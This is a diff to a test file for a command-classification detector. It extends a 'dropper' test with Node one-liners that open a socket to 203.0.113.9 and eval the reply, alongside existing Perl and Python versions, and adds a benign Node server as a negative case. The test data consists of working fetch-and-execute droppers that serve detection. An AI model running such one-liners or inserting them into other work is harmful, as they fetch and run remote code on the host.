@@ -569,7 +569,7 @@ t.test('a Perl one-liner that loads LWP with -M and evals what it gets is a drop
   t.notOk(kinds.includes('download-to-shell'), JSON.stringify(kinds))
 })
 
-t.test('a Perl or Python one-liner that evals what a socket or LWP returns, without parentheses or spaces, is a dropper', async (t) => {
+t.test('a Perl, Python or Node one-liner that evals what a socket or LWP returns, without parentheses or spaces, is a dropper', async (t) => {
   for (const command of [
     ['sh', '-c', `perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new("203.0.113.9:80");print $s "GET /x HTTP/1.0\\r\\n\\r\\n";eval join"",<$s>'`],
     ['perl', '-e', 'use IO::Socket;$s=IO::Socket::INET->new(PeerAddr=>"203.0.113.9:80");print $s "GET /x\\n";eval join q(),<$s>'],
@@ -581,6 +581,9 @@ t.test('a Perl or Python one-liner that evals what a socket or LWP returns, with
     // Perl's own socket(), and Python's: no module name to read, the call itself fetches.
     ['sh', '-c', `perl -e 'use Socket;socket(S,2,1,6);connect(S,pack("SnC4x8",2,80,203,0,113,9));print S "GET /x\\n";eval join"",<S>'`],
     ['python3', '-c', 'import socket;s=socket.create_connection(("203.0.113.9",80));s.send(b"GET /x\\n");exec(s.recv(99999))'],
+    ['node', '-e', 'const s=new (require("net").Socket)();s.connect(80,"203.0.113.9");s.on("data",d=>eval(String(d)))'],
+    ['node', '-e', 'const n=require("net");const s=new n.Socket();s.connect(80,"203.0.113.9");s.on("data",d=>eval(""+d))'],
+    ['node', '-e', 'require("node:net").connect(80,"203.0.113.9").on("data",d=>eval(""+d))'],
   ]) {
     const container = { command }
     const name = JSON.stringify(command)
@@ -600,6 +603,7 @@ t.test('eval of a block, or of text no socket or LWP fetched, is no dropper', as
     ['perl', '-e', 'use IO::Socket::INET; my $s = IO::Socket::INET->new("db.internal:5432") or die; eval { close $s }'],
     ['perl', '-e', 'eval join ";", @ARGV', 'print 1', 'print 2'],
     ['python3', '-c', 'import socket; print(socket.gethostname())'],
+    ['node', '-e', 'require("net").createServer((c) => c.end("ok")).listen(8080)'],
   ]) {
     const container = { command }
     const name = JSON.stringify(command)
